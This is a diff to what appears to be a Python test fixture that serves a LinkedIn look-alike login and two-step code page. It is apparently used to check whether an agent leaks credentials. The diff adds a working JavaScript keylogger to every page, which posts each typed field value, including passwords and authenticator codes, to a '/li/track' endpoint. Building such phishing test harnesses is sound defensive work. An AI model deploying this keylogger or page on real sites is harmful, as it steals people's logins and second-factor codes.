@@ -9,6 +9,10 @@ into it:
         ...
         assert not any(r["form"] for r in site.requests)
 
+It also serves the two-step code page (`/checkpoint/challenge/<id>`, the `challenge_foreign`
+variant) with the replica's markup, and every page it serves carries a keylogger, as phishing kits
+do: whatever is typed into a text field is POSTed as JSON to `/li/track` at once, submitted or not.
+
 `GET /__replica__/state` gives `{"requests": [...]}`; `POST /__replica__/reset` empties the list.
 Each request is `{method, path, query, form, json, cookies}`, `cookies` being the cookie names only.
 """
@@ -27,6 +31,17 @@ from .linkedin_texts import text
 from .server import CONTROL_PREFIX, HashedClasses, random_digits
 
 LANGS = ("en", "fr")
+# What the look-alike does with every keystroke: sends the field's value home, typed or pasted.
+KEYLOGGER = """<script>document.addEventListener('input', (event) => {
+  const el = event.target;
+  if (!el || !('value' in el) || el.type === 'checkbox' || el.type === 'hidden') return;
+  fetch('/li/track', {method: 'POST', keepalive: true, headers: {'Content-Type': 'application/json'},
+    body: JSON.stringify({field: el.name || el.id, value: el.value})});
+}, true);</script>"""
+
+
+def _with_keylogger(html: str) -> str:
+    return html.replace("</body>", KEYLOGGER + "</body>")
 
 
 class ForeignLoginSite:
@@ -52,10 +67,19 @@ class ForeignLoginSite:
 
     def _login(self, failed: bool = False) -> str:
         lang = request.accept_languages.best_match(LANGS) or "en"
-        return pages.login(pages.Page(lang, self.h), action="/checkpoint/lg/login-submit",
-                           redirect=request.values.get("session_redirect", ""), csrf="ajax:" + random_digits(19),
-                           login_csrf=secrets.token_hex(16), email=request.form.get("session_key", ""),
-                           err_password=text(lang, "err_password") if failed else "")
+        return _with_keylogger(pages.login(
+            pages.Page(lang, self.h), action="/checkpoint/lg/login-submit",
+            redirect=request.values.get("session_redirect", ""), csrf="ajax:" + random_digits(19),
+            login_csrf=secrets.token_hex(16), email=request.form.get("session_key", ""),
+            err_password=text(lang, "err_password") if failed else ""))
+
+    def _challenge(self, cid: str = "", failed: bool = False) -> str:
+        """The two-step (authenticator app) page, as the replica draws it; its form posts here."""
+        lang = request.accept_languages.best_match(LANGS) or "en"
+        cid = cid or request.form.get("challengeId", "")
+        return _with_keylogger(pages.challenge_pin(pages.Page(lang, self.h), cid, auth_app=True,
+                                                   last=random_digits(2),
+                                                   error=text(lang, "wrong_pin") if failed else ""))
 
     def _create_app(self) -> Flask:
         app = Flask(__name__)
@@ -76,6 +100,10 @@ class ForeignLoginSite:
         # What a look-alike does with a submitted form: "wrong password", and keep what was typed.
         app.add_url_rule("/checkpoint/lg/login-submit", "submit", lambda: self._login(failed=True),
                          methods=["POST"])
+        app.add_url_rule("/checkpoint/challenge/<cid>", "challenge", self._challenge, methods=["GET"])
+        app.add_url_rule("/checkpoint/challenge/verify", "verify", lambda: self._challenge(failed=True),
+                         methods=["POST"])
+        app.add_url_rule("/li/track", "track", lambda: ("", 204), methods=["POST"])
 
         bp = Blueprint("foreign_control", __name__, url_prefix=CONTROL_PREFIX)
 
